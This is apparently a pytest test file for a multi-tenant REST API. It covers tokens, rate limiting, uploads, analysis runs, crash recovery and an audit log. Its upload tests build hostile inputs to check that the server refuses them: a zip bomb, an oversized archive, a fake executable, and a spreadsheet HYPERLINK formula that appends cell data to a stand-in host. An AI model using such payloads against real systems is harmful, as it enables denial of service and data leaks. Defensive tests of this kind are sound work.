"""The REST API v1 on SQLite and on PostgreSQL: sign-in and tokens, uploads (valid, invalid, hostile), runs and
their results (equal to the command line's ``--json``), cancel, crash recovery, the audit log, the error shape."""

from __future__ import annotations

import io
import json
import socket
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient

from allyshore.cli import main
from allyshore.io import load_network, validate_path, write_network
from allyshore.io.limits import ReadLimits
from allyshore.store.tenancy import Accounts, RunQueue, TenantStore
from allyshore.web import Settings, create_app
from allyshore.web.security import RateLimit
from web_fixtures import PASSWORD, Platform, broken_network, sample_path


def cli_json(capsys: pytest.CaptureFixture[str], *argv: str) -> Any:
    capsys.readouterr()
    with pytest.raises(SystemExit) as done:
        main(list(argv))
    assert done.value.code == 0
    return json.loads(capsys.readouterr().out)


def wait(platform: Platform, run_id: str, headers: dict[str, str]) -> dict[str, Any]:
    platform.run_pending()
    body: dict[str, Any] = platform.client.get(f"/api/v1/runs/{run_id}", headers=headers).json()
    return body


# ------------------------------------------------------------------------------------------- sign-in, tokens


def test_sign_in_gives_a_bearer_token_and_wrong_passwords_do_not(platform: Platform) -> None:
    c = platform.client
    ok = c.post("/api/v1/auth/token", data={"username": platform.a.emails["analyst"], "password": PASSWORD})
    assert ok.status_code == 200
    assert set(ok.json()) == {"access_token", "token_type"}
    assert ok.json()["token_type"] == "bearer"
    me = c.get("/api/v1/me", headers={"Authorization": f"Bearer {ok.json()['access_token']}"}).json()
    assert (me["email"], me["role"]) == (platform.a.emails["analyst"], "analyst")
    wrong = c.post("/api/v1/auth/token", data={"username": platform.a.emails["analyst"], "password": "nope"})
    assert wrong.status_code == 401
    assert wrong.json() == {"error": "unauthorized", "message": "wrong email or password", "problems": []}
    unknown = c.post("/api/v1/auth/token", data={"username": "nobody@x.example", "password": PASSWORD})
    assert unknown.status_code == 401
    assert c.get("/api/v1/networks").status_code == 401
    assert c.get("/api/v1/networks", headers={"Authorization": "Bearer alsh_forged"}).status_code == 401


def test_sign_in_is_rate_limited(platform: Platform) -> None:
    app = platform.client.app
    app.state.sign_in_limit = RateLimit(attempts=3, window=60)  # type: ignore[attr-defined]
    try:
        email = platform.b.emails["viewer"]
        codes = [
            platform.client.post("/api/v1/auth/token", data={"username": email, "password": "x"}).status_code
            for _ in range(4)
        ]
        assert codes == [401, 401, 401, 429]
        # blocked even with the right password until the window passes
        right = platform.client.post("/api/v1/auth/token", data={"username": email, "password": PASSWORD})
        assert right.status_code == 429
    finally:
        app.state.sign_in_limit = RateLimit()  # type: ignore[attr-defined]


def test_cli_creates_users_and_tokens_that_the_api_accepts(
    platform: Platform, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    key = ["--key-file", str(tmp_path / "unused.key")]
    monkeypatch.setattr("sys.stdin", io.StringIO(PASSWORD + "\n"))
    with pytest.raises(SystemExit) as done:
        main(["users", "create", "cli@a.example", "--org", "Org A", "--role", "viewer", "--database-url", platform.url, *key])
    assert done.value.code == 0
    assert "created cli@a.example (viewer)" in capsys.readouterr().out
    with pytest.raises(SystemExit) as done:
        main(["tokens", "create", "cli@a.example", "--database-url", platform.url, *key])
    assert done.value.code == 0
    token = capsys.readouterr().out.strip()
    assert token.startswith("alsh_")
    headers = {"Authorization": f"Bearer {token}"}
    listed = platform.client.get("/api/v1/networks", headers=headers)
    assert listed.status_code == 200
    assert platform.a.network_id in {n["id"] for n in listed.json()}
    signed = platform.client.post("/api/v1/auth/token", data={"username": "cli@a.example", "password": PASSWORD})
    assert signed.status_code == 200
    # the token is stored hashed: its text is nowhere in the database
    with platform.store.engine.connect() as conn:
        hashes = [r[0] for r in conn.execute(sa.text("SELECT token_hash FROM api_tokens"))]
    assert token not in hashes and all(len(h) == 64 for h in hashes)
    # revoked, it stops working
    mine = platform.client.get("/api/v1/tokens", headers=headers).json()
    (cli_token,) = [t for t in mine if t["name"] == "cli"]
    assert platform.client.delete(f"/api/v1/tokens/{cli_token['id']}", headers=headers).status_code == 204
    assert platform.client.get("/api/v1/networks", headers=headers).status_code == 401


def test_read_scoped_tokens_cannot_write(platform: Platform) -> None:
    made = platform.client.post("/api/v1/tokens", headers=platform.a.auth("analyst"), json={"scope": "read"})
    assert made.status_code == 201
    headers = {"Authorization": f"Bearer {made.json()['token']}"}
    assert platform.client.get("/api/v1/networks", headers=headers).status_code == 200
    posted = platform.client.post(
        f"/api/v1/networks/{platform.a.network_id}/runs", headers=headers, json={"analysis": "exposure"}
    )
    assert posted.status_code == 403


# ------------------------------------------------------------------------------------------- uploads


def table_counts(path: Path) -> dict[str, int]:
    """The rows of each table of the sample, counted from its JSON text (not through the reader)."""
    data = json.loads(path.read_text(encoding="utf-8"))
    return {name: len(rows) for name, rows in data.items() if isinstance(rows, list)}


def test_upload_json_xlsx_and_zip_give_the_same_counts(platform: Platform, tmp_path: Path) -> None:
    source = sample_path()
    expected = table_counts(source)
    network = load_network(source)
    write_network(network, tmp_path / "pump.xlsx")
    write_network(network, tmp_path / "csv")
    with zipfile.ZipFile(tmp_path / "pump.zip", "w") as archive:
        for csv in sorted((tmp_path / "csv").iterdir()):
            archive.write(csv, csv.name)
    for path in (source, tmp_path / "pump.xlsx", tmp_path / "pump.zip"):
        response = platform.upload(platform.a, path)
        assert response.status_code == 201, (path.name, response.text)
        body = response.json()
        assert set(body) >= {"id", "name", "summary"}
        assert {k: v for k, v in body["summary"].items() if k in expected} == expected
        got = platform.client.get(f"/api/v1/networks/{body['id']}", headers=platform.a.auth("viewer"))
        assert got.json()["summary"] == body["summary"]


def broken_sample(tmp_path: Path) -> Path:
    return broken_network(tmp_path)


def test_an_invalid_network_is_refused_with_the_problems_validate_finds(platform: Platform, tmp_path: Path) -> None:
    path = broken_sample(tmp_path)
    before = platform.client.get("/api/v1/networks", headers=platform.a.auth()).json()
    response = platform.upload(platform.a, path)
    assert response.status_code == 422
    body = response.json()
    assert body["error"] == "invalid_network"
    problems = body["problems"]
    assert problems and all(set(p) >= {"file", "row", "column", "message", "hint"} for p in problems)
    # the same problems `allyshore validate` finds (its errors), by row, column and message
    expected = {(p.row, p.column, p.message) for p in validate_path(path) if p.severity == "error"}
    assert {(p["row"], p["column"], p["message"]) for p in problems} == expected
    assert {("country" in p["column"]) or ("unit_cost" in p["column"]) for p in problems} == {True}
    assert all(p["file"].startswith("broken.json") for p in problems)
    after = platform.client.get("/api/v1/networks", headers=platform.a.auth()).json()
    assert after == before  # nothing stored


def test_hostile_uploads_are_refused_before_reading(platform: Platform, tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("sites.csv", b"site_id,name\n" + b"0" * 8_000_000)  # compresses ~1000:1
    response = platform.upload(platform.a, bomb)
    assert response.status_code == 422
    assert "zip" in response.json()["problems"][0]["message"].lower()
    many = tmp_path / "many.zip"
    with zipfile.ZipFile(many, "w") as archive:
        for index in range(100):
            archive.writestr(f"extra{index}.csv", b"a\n1\n")
    assert platform.upload(platform.a, many).status_code == 422
    other = tmp_path / "evil.exe"
    other.write_bytes(b"MZ")
    refused = platform.upload(platform.a, other)
    assert refused.status_code == 422
    assert refused.json()["problems"][0]["file"] == "evil.exe"
    app = platform.client.app
    app.state.settings.upload_limits = ReadLimits(max_file_bytes=1000)  # type: ignore[attr-defined]
    try:
        assert platform.upload(platform.a, sample_path()).status_code == 413
        small = tmp_path / "small.json"
        small.write_bytes(b" " * 70_000)  # under the request bound (limit + 64 KiB), over the file bound
        assert platform.upload(platform.a, small).json()["error"] == "too_large"
    finally:
        app.state.settings.upload_limits = None  # type: ignore[attr-defined]


def test_workbook_formulas_are_never_evaluated(platform: Platform, tmp_path: Path) -> None:
    import openpyxl

    path = tmp_path / "formula.xlsx"
    write_network(load_network(sample_path()), path)
    book = openpyxl.load_workbook(path)
    sheet = book["sites"]
    sheet["B2"] = '=HYPERLINK("http://example.invalid/?"&A2,"click")'
    book.save(path)
    response = platform.upload(platform.a, path)
    if response.status_code == 201:  # accepted: the formula's text is kept as text, never its value
        text = platform.client.get(
            f"/api/v1/networks/{response.json()['id']}/download?format=json", headers=platform.a.auth()
        ).text
        assert "click" not in text
    else:
        assert response.status_code == 422
        assert any("formula" in p["message"].lower() for p in response.json()["problems"])


def test_download_gives_the_network_back(platform: Platform, tmp_path: Path) -> None:
    expected = table_counts(sample_path())
    as_json = platform.client.get(
        f"/api/v1/networks/{platform.a.network_id}/download?format=json", headers=platform.a.auth("viewer")
    )
    assert as_json.status_code == 200
    assert {k: v for k, v in table_counts_of(as_json.text).items() if k in expected} == expected
    as_xlsx = platform.client.get(
        f"/api/v1/networks/{platform.a.network_id}/download?format=xlsx", headers=platform.a.auth("viewer")
    )
    assert as_xlsx.status_code == 200
    (tmp_path / "back.xlsx").write_bytes(as_xlsx.content)
    assert {k: v.height for k, v in load_network(tmp_path / "back.xlsx").tables.items() if k in expected} == expected
    bad = platform.client.get(
        f"/api/v1/networks/{platform.a.network_id}/download?format=pdf", headers=platform.a.auth("viewer")
    )
    assert bad.status_code == 422
    assert bad.json()["error"] == "invalid_request"


def table_counts_of(text: str) -> dict[str, int]:
    return {name: len(rows) for name, rows in json.loads(text).items() if isinstance(rows, list)}


# ------------------------------------------------------------------------------------------- runs


@pytest.fixture(scope="module")
def cli_results(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """The command line's --json of exposure and cost network on the sample (run once per module)."""
    import contextlib

    out: dict[str, Any] = {}
    for name, argv in {
        "exposure": ["exposure", str(sample_path()), "--json", "--choke-points", "5"],
        "cost": ["cost", "network", str(sample_path()), "--json", "--as-of", "2026-06-01"],
    }.items():
        buffer = io.StringIO()
        with contextlib.redirect_stdout(buffer), pytest.raises(SystemExit) as done:
            main(argv)
        assert done.value.code == 0
        out[name] = json.loads(buffer.getvalue())
    return out


@pytest.mark.parametrize(
    ("analysis", "options"),
    [("exposure", {"choke-points": 5}), ("cost", {"as_of": "2026-06-01"})],
)
def test_a_runs_result_is_the_clis_json(
    platform: Platform, cli_results: dict[str, Any], analysis: str, options: dict[str, Any]
) -> None:
    org = platform.a
    created = platform.client.post(
        f"/api/v1/networks/{org.network_id}/runs",
        headers=org.auth("analyst"),
        json={"analysis": analysis, "options": options},
    )
    assert created.status_code == 202
    run_id = created.json()["id"]
    assert created.json() == {"id": run_id, "status": "queued"}
    assert created.headers["location"] == f"/api/v1/runs/{run_id}"
    early = platform.client.get(f"/api/v1/runs/{run_id}/result", headers=org.auth("viewer"))
    assert early.status_code == 409
    state = wait(platform, run_id, org.auth("viewer"))
    assert (state["status"], state["progress"], state["error"]) == ("succeeded", 1.0, None)
    assert set(state) >= {"id", "analysis", "status", "progress", "message", "error"}
    result = platform.client.get(f"/api/v1/runs/{run_id}/result", headers=org.auth("viewer"))
    assert result.status_code == 200
    assert result.json() == cli_results[analysis]
    report = platform.client.get(f"/api/v1/runs/{run_id}/report", headers=org.auth("viewer"))
    assert report.status_code == 200
    assert report.headers["content-type"].startswith("text/html")
    assert f'id="section-{analysis}"' in report.text


def test_bad_options_are_refused_naming_the_option(platform: Platform) -> None:
    org = platform.a
    for body, word in (
        ({"analysis": "exposure", "options": {"choke-pointz": 3}}, "choke-pointz"),
        ({"analysis": "exposure", "options": {"choke-points": "many"}}, "choke-points"),
        ({"analysis": "teleport", "options": {}}, "analysis"),
    ):
        response = platform.client.post(
            f"/api/v1/networks/{org.network_id}/runs", headers=org.auth("analyst"), json=body
        )
        assert response.status_code == 422, body
        assert word in json.dumps(response.json()), response.json()


def test_a_queued_run_is_cancelled_and_has_no_result(platform: Platform) -> None:
    org = platform.a
    run_id = platform.client.post(
        f"/api/v1/networks/{org.network_id}/runs", headers=org.auth("analyst"), json={"analysis": "origin"}
    ).json()["id"]
    cancelled = platform.client.post(f"/api/v1/runs/{run_id}/cancel", headers=org.auth("analyst"))
    assert cancelled.status_code == 200
    assert cancelled.json()["status"] == "cancelled"
    assert platform.run_pending() == 0
    assert platform.client.get(f"/api/v1/runs/{run_id}/result", headers=org.auth()).status_code == 409


def test_a_running_run_stops_at_its_next_progress_report(platform: Platform) -> None:
    org = platform.a
    run_id = platform.client.post(
        f"/api/v1/networks/{org.network_id}/runs",
        headers=org.auth("analyst"),
        json={"analysis": "stress", "options": {"line-stoppers": False}},
    ).json()["id"]
    queue = RunQueue(platform.store)
    claimed = queue.claim("test")
    assert claimed is not None and claimed.id == run_id
    assert platform.client.post(f"/api/v1/runs/{run_id}/cancel", headers=org.auth("analyst")).status_code == 200
    from allyshore.web.runner import execute

    assert execute(queue, claimed, {"scheduler": "synchronous"}) == "cancelled"
    state = platform.client.get(f"/api/v1/runs/{run_id}", headers=org.auth()).json()
    assert state["status"] == "cancelled"


def test_runs_left_running_by_a_crash_are_marked_interrupted_on_start(platform: Platform, tmp_path: Path) -> None:
    org = platform.a
    run_id = platform.client.post(
        f"/api/v1/networks/{org.network_id}/runs", headers=org.auth("analyst"), json={"analysis": "exposure"}
    ).json()["id"]
    # a process of this host that is gone (killed): its runs are recovered at once, before their lease runs out
    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    claimed = RunQueue(platform.store).claim(f"{socket.gethostname()}:{int(gone.stdout)}:embedded:0")
    assert claimed is not None and claimed.id == run_id
    queued = platform.client.post(
        f"/api/v1/networks/{org.network_id}/runs", headers=org.auth("analyst"), json={"analysis": "exposure"}
    ).json()["id"]
    # a new server on the same database: its start marks the orphan failed, and its runner runs the queued one
    app = create_app(Settings(platform.url, runner_threads=1), store=platform.store)
    with TestClient(app) as client:
        orphan = client.get(f"/api/v1/runs/{run_id}", headers=org.auth()).json()
        assert orphan["status"] == "failed"
        assert orphan["error"].startswith("interrupted")
        deadline = time.monotonic() + 60
        while client.get(f"/api/v1/runs/{queued}", headers=org.auth()).json()["status"] in ("queued", "running"):
            assert time.monotonic() < deadline
            time.sleep(0.1)
        assert client.get(f"/api/v1/runs/{queued}", headers=org.auth()).json()["status"] == "succeeded"
    actions = [a["action"] for a in platform.client.get("/api/v1/audit", headers=org.auth()).json()]
    assert "run.interrupted" in actions


# ------------------------------------------------------------------------------------------- audit, deletes, errors


def test_every_write_leaves_an_audit_row_and_the_log_refuses_changes(platform: Platform) -> None:
    org = platform.a
    made = platform.upload(org, sample_path(), name="to-delete.json").json()["id"]
    assert platform.client.delete(f"/api/v1/networks/{made}", headers=org.auth("admin")).status_code == 204
    assert platform.client.get(f"/api/v1/networks/{made}", headers=org.auth("admin")).status_code == 404
    log = platform.client.get("/api/v1/audit", headers=org.auth("admin")).json()
    mine = [(a["actor"], a["action"]) for a in log if a["target"] == made]
    assert mine == [(org.emails["admin"], "network.delete"), (org.emails["admin"], "network.create")]
    assert all(a["actor"] for a in log)
    for statement in ("UPDATE audit SET actor = 'someone else'", "DELETE FROM audit"):
        with pytest.raises(sa.exc.DBAPIError), platform.store.engine.begin() as conn:
            conn.execute(sa.text(statement))
    assert len(platform.client.get("/api/v1/audit", headers=org.auth("admin")).json()) == len(log)


def test_one_error_shape_everywhere(platform: Platform) -> None:
    c = platform.client
    for response in (
        c.get("/api/v1/no-such-route"),
        c.get("/api/v1/networks"),
        c.get("/api/v1/networks/0", headers=platform.a.auth()),
        c.post("/api/v1/auth/token", data={}),
        c.put("/api/v1/networks", headers=platform.a.auth()),
    ):
        assert response.status_code in (401, 404, 405, 422)
        assert set(response.json()) == {"error", "message", "problems"}, response.text


def test_openapi_lists_the_routes(platform: Platform) -> None:
    spec = platform.client.get("/api/v1/openapi.json").json()
    paths = set(spec["paths"])
    assert {
        "/api/v1/auth/token",
        "/api/v1/networks",
        "/api/v1/networks/{network_id}",
        "/api/v1/networks/{network_id}/download",
        "/api/v1/networks/{network_id}/runs",
        "/api/v1/runs/{run_id}",
        "/api/v1/runs/{run_id}/cancel",
        "/api/v1/runs/{run_id}/result",
        "/api/v1/runs/{run_id}/report",
        "/api/v1/audit",
        "/api/v1/members",
        "/api/v1/tokens",
    } <= paths


def test_the_store_guard_fails_closed(platform: Platform) -> None:
    """A row of another organisation that a query let through is refused by the second check."""
    from allyshore.errors import NotFoundError

    b_org = Accounts(platform.store).user_by_email(platform.b.emails["admin"])
    assert b_org is not None
    store = TenantStore(platform.store, b_org[0].org_id)
    foreign = {"org_id": b_org[0].org_id + 1000, "id": "x"}
    with pytest.raises(NotFoundError):
        store._own(foreign, "network", "x")  # type: ignore[arg-type]
    with pytest.raises(NotFoundError):
        store.network(platform.a.network_id)
    with pytest.raises(NotFoundError):
        store.run(platform.a.run_id)


def test_a_nul_character_in_text_is_refused_not_a_server_error(platform: Platform) -> None:
    # PostgreSQL text cannot hold U+0000 (schemathesis found the 500 it used to give on a token's name)
    answer = platform.client.post("/api/v1/tokens", headers=platform.a.auth(), json={"name": "\u0000"})
    assert answer.status_code == 422, answer.text
    assert "NUL" in answer.json()["message"]
    assert platform.client.get("/api/v1/networks/%00", headers=platform.a.auth()).status_code == 422


def test_the_token_cache_forgets_at_expiry_after_its_seconds_and_when_cleared() -> None:
    from datetime import UTC, datetime, timedelta

    from allyshore.store.credentials import TokenCache

    looked: list[str] = []

    def look_up(token: str) -> tuple[str, datetime | None] | None:
        looked.append(token)
        expiry = {"short": datetime.now(UTC) + timedelta(seconds=-1), "long": None}
        return None if token == "unknown" else (f"principal of {token}", expiry[token])

    cache: TokenCache[str] = TokenCache(seconds=60)
    first = cache.resolve("long", look_up)
    second = cache.resolve("long", look_up)
    assert first == "principal of long" and second == "principal of long"
    assert looked == ["long"]  # the second answer came from the cache
    assert cache.resolve("unknown", look_up) is None and cache.resolve("unknown", look_up) is None
    assert looked.count("unknown") == 2  # an unknown token is never remembered
    cache.resolve("short", look_up)
    cache.resolve("short", look_up)
    assert looked.count("short") == 2  # expired by the time it is asked again: looked up again
    cache.clear()  # a revocation
    cache.resolve("long", look_up)
    assert looked.count("long") == 2
    quick: TokenCache[str] = TokenCache(seconds=0)
    quick.resolve("long", look_up)
    quick.resolve("long", look_up)
    assert looked.count("long") == 4  # no caching at 0 seconds
